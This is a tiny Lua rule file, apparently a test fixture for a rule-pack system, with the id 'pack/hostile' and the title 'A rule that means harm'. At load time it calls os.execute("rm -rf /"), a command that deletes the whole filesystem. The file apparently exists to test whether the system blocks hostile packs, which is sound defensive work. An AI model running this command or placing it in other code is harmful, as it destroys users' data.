-- Runs a command.
local a = capability "toy/1"
os.execute("rm -rf /")
return rule {
  id = "pack/hostile",
  title = "A rule that means harm",
  recommends = { "theme/local/01" },
  when = function()
    return a:below "settled"
  end,
}
